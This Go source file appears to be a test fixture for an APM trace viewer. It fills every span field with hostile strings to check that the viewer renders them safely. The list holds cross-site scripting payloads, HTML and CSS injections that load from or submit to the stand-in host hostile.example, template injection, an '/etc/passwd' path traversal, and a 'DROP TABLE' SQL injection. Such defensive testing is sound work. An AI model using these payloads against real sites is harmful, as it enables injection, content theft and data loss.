package busy

import (
	"strings"
	"time"

	"thinker/shared/apm"
)

// Hostile are traces, ended at end, whose every text is one that may break a
// page, or out of it: each text stands in each place. What would be executed sets
// window.pwned, or opens a dialog; what would be fetched is of hostile.example.
func Hostile(end time.Time) []apm.Span {
	texts := HostileTexts()
	var made []apm.Span
	for i, text := range texts {
		next := texts[(i+1)%len(texts)]
		h := hostile{trace: uint64(i + 1), end: end.Add(-time.Duration(i) * 10 * ms).UnixNano()}
		root := h.span(0, text, 40*ms)
		h.span(root, next, 30*ms)
		query := h.span(root, text, 20*ms)
		made = append(made, h.spans...)
		statement := &made[len(made)-1]
		statement.Type, statement.Name, statement.Service = "sql", "postgres.query", next
		statement.Meta["db.statement"], statement.Meta["sql.query"] = text, text
		made = append(made, apm.Span{ // in each service a harmless one, too
			TraceID: h.trace, SpanID: 9, ParentID: query, Service: text, Name: "harmless", Resource: "harmless",
			Start: statement.Start, Duration: ms, Meta: map[string]string{}, Metrics: map[string]float64{},
		})
	}
	return made
}

// Harmless are the same traces with plain words for texts: what Hostile is to be
// compared with.
func Harmless(end time.Time) []apm.Span {
	made := Hostile(end)
	for i := range made {
		s := &made[i]
		s.Service, s.Resource = "service", "GET /resource"
		if s.Name != "postgres.query" && s.Name != "harmless" {
			s.Name, s.Type = "http.request", "web"
		}
		s.Meta = map[string]string{"env": "production", "version": "1.0.0", "error.message": "it failed", "error.type": "Error", "error.stack": "main.go:1"}
		s.Metrics = map[string]float64{}
		for j := range s.Links {
			s.Links[j].Attributes = map[string]string{"reason": "batch"}
		}
		for j := range s.Events {
			s.Events[j].Name, s.Events[j].Attributes = "retry", map[string]any{"attempt": int64(1)}
		}
	}
	return made
}

// hostile is a trace that is being made.
type hostile struct {
	trace uint64
	end   int64
	spans []apm.Span
}

// span adds a failed span all of whose texts are one, and returns its ID.
func (h *hostile) span(parent uint64, text string, takes time.Duration) uint64 {
	id := uint64(len(h.spans) + 1)
	h.spans = append(h.spans, apm.Span{
		TraceID: h.trace, SpanID: id, ParentID: parent,
		Service: text, Name: text, Resource: text, Type: text,
		Start: h.end - int64(takes), Duration: takes, Error: true,
		Meta: map[string]string{
			text: text, "env": text, "version": text, "language": text, "component": text, "span.kind": text,
			"error.message": text, "error.type": text, "error.stack": text,
			"http.url": text, "http.method": text, "http.route": text, "http.status_code": text,
			"peer.service": text, "runtime-id": text, "_dd.base_service": text, "usr.id": text,
		},
		Metrics: map[string]float64{text: 1e300, "negative": -1, "_sampling_priority_v1": 1},
		Links:   []apm.Link{{TraceID: h.trace + 1, SpanID: 1, Attributes: map[string]string{text: text}}},
		Events: []apm.Event{{Time: h.end - int64(takes)/2, Name: text, Attributes: map[string]any{
			text: text, "list": []any{text, int64(1), true},
		}}},
	})
	return id
}

// HostileTexts are what Hostile puts everywhere.
func HostileTexts() []string {
	return []string{
		`<script>window.pwned=1</script>`,
		`"><img src=x onerror="window.pwned=1">`,
		`'><svg/onload=window.pwned=1>`,
		`</title></style></textarea></script><script src="https://hostile.example/x.js"></script>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><base href="https://hostile.example/">`,
		`<meta http-equiv="refresh" content="0;url=https://hostile.example/">`,
		`<link rel=stylesheet href=https://hostile.example/x.css><form action=https://hostile.example><button>`,
		`javascript:alert(window.pwned=1)`,
		`JaVaScRiPt:window.pwned=1//%0aalert(1)`,
		`data:text/html,<script>window.pwned=1</script>`,
		`https://hostile.example/?a=1&b=2#"onmouseover="window.pwned=1`,
		`//hostile.example/x`,
		`url(https://hostile.example/x.png)`,
		`red;background:url("https://hostile.example/y.png");position:fixed;inset:0`,
		`}</style><style>*{display:none!important;background:url(//hostile.example/z)}`,
		"' \" ` \\' \\\" onfocus=window.pwned=1 autofocus x='",
		"{{.}} {{template \"foot\" .}} ${window.pwned=1} #{7*7} <%= 7*7 %> `${alert(1)}`",
		"\x00NUL\x00 and \x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f\u0085 controls",
		"line\nafter\r\nline\ttab\u2028separator\u2029paragraph",
		"\u202eright to left override\u202d \u2066isolated, and never ended \u061c\u200f",
		"zero\u200bwidth\u200d\ufeff\u00adspaces\u2060",
		"Z" + strings.Repeat("\u0335\u0322\u0320\u0353\u0301\u030b", 60) + "algo" + strings.Repeat("\u0489\u0316\u033a", 80),
		"\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466 \U0001F3F4\U000E0067\U000E0062\U000E007F \U0001F1E9\U0001F1EA ﷽ 𒐫 ꧅",
		"ﷺ مرحبا بالعالم שלום עולם",
		strings.Repeat("漢字", 500),
		strings.Repeat("W", 64<<10),
		strings.Repeat("<b>", 8000),
		strings.Repeat("a/b-c.d ", 800),
		"",
		" ",
		" \t\n\u00a0\u3000 ",
		"__proto__",
		"constructor",
		"../../../etc/passwd",
		"?service=x&query=*#fragment",
		"%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E",
		"50 % off; DROP TABLE span; --",
		"NaN", "undefined", "null", "-1", "1e999",
	}
}
